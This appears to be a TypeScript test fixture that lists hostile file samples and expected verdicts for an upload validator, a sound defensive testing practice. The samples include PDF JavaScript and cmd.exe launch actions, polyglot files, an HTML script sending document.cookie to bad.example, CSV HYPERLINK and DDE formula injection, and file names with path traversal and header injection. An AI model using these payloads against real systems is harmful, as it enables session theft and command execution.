import { deflateSync } from "node:zlib";
import { hex, join, latin, mz, pdf, png, zip } from "./bytes";
import { type HostileSpec, refused, taken } from "./types";

const mail = (...parts: readonly string[]) =>
  Buffer.from(
    `From: "客服" <kefu@shop.example>\r\nTo: user@mail.example\r\nSubject: =?UTF-8?B?6YCA5qy+?=\r\nDate: Mon, 7 Sep 2026 10:00:00 +0800\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b1"\r\n\r\n${parts.map((p) => `--b1\r\n${p}\r\n`).join("")}--b1--\r\n`,
  );
const attached = (name: string, bytes: Buffer) =>
  `Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${bytes.toString("base64").replace(/.{76}/g, "$&\r\n")}`;
const packedStream = (text: string) => {
  const body = deflateSync(Buffer.from(text));
  return join(
    "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 9 0 R>>endobj\n2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ",
    String(body.length),
    ">>stream\n",
    body,
    "\nendstream\nendobj\nstartxref\n0\n%%EOF",
  );
};
const mp3 = (tag: string) => {
  const body = join(latin("TIT2"), hex("00000000"), hex("0000"), latin("\x03"), tag);
  body.writeUInt32BE(body.length - 10, 4);
  const n = body.length;
  const frame = join(hex("fffb5000"), Buffer.alloc(208 - 4));
  return join(
    "ID3",
    hex("0300 00"),
    Buffer.from([(n >> 21) & 127, (n >> 14) & 127, (n >> 7) & 127, n & 127]),
    body,
    ...Array.from({ length: 40 }, () => frame),
  );
};
const wav = () => {
  const body = Buffer.alloc(1600);
  const head = join(
    "RIFF",
    hex("00000000"),
    "WAVEfmt ",
    hex("10000000 0100 0100 401f0000 803e0000 0200 1000"),
    "data",
    hex("40060000"),
  );
  head.writeUInt32LE(head.length + body.length - 8, 4);
  return join(head, body);
};

/** PDF, mail, text, sound. */
// biome-ignore format: one file a line
export const PAPERS: readonly HostileSpec[] = [
  { id: "pdf-javascript", name: "账单.pdf", bytes: () => pdf("/OpenAction 4 0 R", ["<</S/JavaScript/JS(app.alert(document.URL))>>"]), expect: [taken("pdf", true)] },
  { id: "pdf-javascript-hidden", name: "账单.pdf", bytes: () => pdf("/OpenAction<</S/J#61vaScript/#4a#53(x)>>"), expect: [taken("pdf", true)] },
  { id: "pdf-javascript-packed", name: "账单.pdf", bytes: () => packedStream("1 0 <</S/JavaScript/JS(app.alert(1))>>"), expect: [taken("pdf", true)] },
  { id: "pdf-launch", name: "账单.pdf", bytes: () => pdf("/OpenAction 4 0 R", ["<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"]), expect: [taken("pdf", true)] },
  { id: "pdf-attachment", name: "账单.pdf", bytes: () => pdf("/Names<</EmbeddedFiles<</Names[(x.exe) 4 0 R]>>>>", ["<</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>", "<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"]), expect: [taken("pdf", true)] },
  { id: "pdf-uri", name: "账单.pdf", bytes: () => pdf("/OpenAction<</S/URI/URI(http://bad.example/track)>>"), expect: [taken("pdf", true), taken("pdf", false)] },
  { id: "pdf-zip", name: "账单.pdf", bytes: () => join(pdf(), zip({ "a.exe": "MZ" })), expect: [refused("polyglot")] },
  { id: "pdf-exe", name: "账单.pdf", bytes: () => join(pdf(), mz()), expect: [refused("polyglot")] },
  { id: "pdf-html", name: "账单.pdf", bytes: () => join(pdf(), "<html><script>alert(1)</script></html>"), expect: [refused("polyglot"), taken("pdf")] },
  { id: "html-pdf", name: "账单.pdf", bytes: () => join("<html><script>alert(1)</script><!--\n", pdf(), "-->"), expect: [refused("polyglot"), taken("html", true), taken("pdf")] },
  { id: "pdf-cut", name: "账单.pdf", bytes: () => pdf().subarray(0, 120), expect: [refused("damaged")] },
  { id: "html-script", name: "聊天.html", bytes: () => Buffer.from("<!DOCTYPE html><html><body>聊天记录<script>fetch('https://bad.example/'+document.cookie)</script></body></html>"), expect: [taken("html", true)] },
  { id: "html-as-png", name: "截图.png", bytes: () => Buffer.from("<!DOCTYPE html><html><script>alert(1)</script></html>"), expect: [taken("html", true)] },
  { id: "html-refresh", name: "聊天.htm", bytes: () => Buffer.from('<html><meta http-equiv="refresh" content="0;url=https://bad.example/">记录</html>'), expect: [taken("html", true)] },
  { id: "html-utf7", name: "a.txt", bytes: () => Buffer.from("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), expect: [taken("txt", false)] },
  { id: "csv-formula", name: "账单.csv", bytes: () => Buffer.from('日期,金额,备注\n2026-09-01,300,"=HYPERLINK(""http://bad.example/?""&A1,""点我"")"\n2026-09-02,-1+1,"=cmd|\'/c calc\'!A0"\n2026-09-03,@SUM(1),\t=1+1\n'), expect: [taken("csv", false), taken("txt", false)] },
  { id: "json-deep", name: "聊天.json", bytes: () => Buffer.from("[".repeat(200_000) + "]".repeat(200_000)), expect: [taken("json", false), taken("txt", false)] },
  { id: "json-proto", name: "聊天.json", bytes: () => Buffer.from('{"__proto__":{"admin":true},"constructor":{"prototype":{"x":1}},"messages":[]}'), expect: [taken("json", false)] },
  { id: "mail-program", name: "邮件.eml", bytes: () => mail("Content-Type: text/plain\r\n\r\n请查收", attached("发票.exe", mz())), expect: [refused("program")] },
  { id: "mail-program-unnamed", name: "邮件.eml", bytes: () => mail("Content-Type: text/plain\r\n\r\n请查收", attached("发票.pdf", mz())), expect: [refused("program")] },
  { id: "mail-script", name: "邮件.eml", bytes: () => mail("Content-Type: text/html\r\n\r\n<img src=x onerror=alert(1)>"), expect: [taken("eml", true)] },
  { id: "mail-picture", name: "邮件.eml", bytes: () => mail("Content-Type: text/plain\r\n\r\n见图", attached("截图.png", png())), expect: [taken("eml", true)] },
  { id: "text-bidi", name: "聊天.txt", bytes: () => Buffer.from("客服：\u202eok evig I\u202c 退款\u2066x\u2069\n"), expect: [taken("txt", false)] },
  { id: "text-escape", name: "聊天.txt", bytes: () => Buffer.from("客服：\x1b]0;pwned\x07\x1b[2J您好\n"), expect: [taken("txt", false), refused("not_allowed_type")] },
  { id: "text-utf16", name: "聊天.txt", bytes: () => Buffer.from("\ufeff<script>alert(1)</script>", "utf16le"), expect: [taken("txt"), taken("html", true)] },
  { id: "text-half", name: "聊天.txt", bytes: () => Buffer.from("转人工".repeat(3)).subarray(0, 26), expect: [taken("txt", false), refused("not_allowed_type")] },
  { id: "text-big", name: "聊天.txt", bytes: () => Buffer.alloc(21 * 1024 * 1024, "a"), expect: [refused("too_large")] },
  { id: "mp3-script", name: "录音.mp3", bytes: () => mp3("<script>alert(1)</script>"), expect: [refused("polyglot"), taken("mp3")] },
  { id: "mp3-private", name: "录音.mp3", bytes: () => mp3("王秀兰 1990000 7260"), expect: [taken("mp3")] },
  { id: "mp3-zip", name: "录音.mp3", bytes: () => join(mp3("x"), zip({ "a.txt": "a" })), expect: [refused("polyglot")] },
  { id: "wav-js", name: "录音.wav", bytes: () => { const w = wav(); w.write("/*", 4, "latin1"); return join(w, "*/=alert(1)"); }, expect: [refused("polyglot")] },
  { id: "film-no-index", name: "录屏.mp4", bytes: () => join(hex("00000018"), "ftypisom", hex("00000200"), "isommp41", hex("000001fc"), "mdat", Buffer.alloc(500, 1)), expect: [refused("damaged")] },
  { id: "noise", name: "截图.png", bytes: () => Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7919 + (i >> 3) * 31) & 255)), expect: [refused("not_allowed_type")] },
  { id: "zeros", name: "录音.m4a", bytes: () => Buffer.alloc(5000), expect: [refused("not_allowed_type")] },
  { id: "empty", name: "截图.png", bytes: () => Buffer.alloc(0), expect: [refused("empty")] },
  { id: "blank", name: "聊天.txt", bytes: () => Buffer.from(" \r\n\t\n"), expect: [refused("empty")] },
  { id: "mark-only", name: "聊天.txt", bytes: () => hex("efbbbf"), expect: [refused("empty"), taken("txt")] },
];

/** Harmless bytes under names that are not. */
// biome-ignore format: one file a line
export const NAMES: readonly HostileSpec[] = [
  { id: "name-rtl", name: "聊天\u202egpj.png", bytes: () => png(), expect: [taken("png")] },
  { id: "name-nul", name: "截图.png\0.exe", bytes: () => png(), expect: [taken("png")] },
  { id: "name-path", name: "../../../../etc/passwd", bytes: () => png(), expect: [taken("png")] },
  { id: "name-windows-path", name: "C:\\Windows\\System32\\drivers\\etc\\hosts", bytes: () => png(), expect: [taken("png")] },
  { id: "name-long", name: `${"长".repeat(4000)}.png`, bytes: () => png(), expect: [taken("png")] },
  { id: "name-header", name: 'a.png"\r\nSet-Cookie: x=1\r\n\r\n<script>', bytes: () => png(), expect: [taken("png")] },
  { id: "name-markup", name: "<img src=x onerror=alert(1)>.png", bytes: () => png(), expect: [taken("png")] },
  { id: "name-device", name: "CON.png", bytes: () => png(), expect: [taken("png")] },
  { id: "name-dots", name: "....", bytes: () => png(), expect: [taken("png")] },
  { id: "name-empty", name: "", bytes: () => png(), expect: [taken("png")] },
  { id: "name-invisible", name: "\u200b\u2060\ufeff.png", bytes: () => png(), expect: [taken("png")] },
  { id: "name-half-character", name: "截图\ud83d.png", bytes: () => png(), expect: [taken("png")] },
  { id: "name-formula", name: "=cmd|'/c calc'!A0.png", bytes: () => png(), expect: [taken("png")] },
  { id: "name-personal", name: "王秀兰 19900007260 身份证.png", bytes: () => png(), expect: [taken("png")] },
];
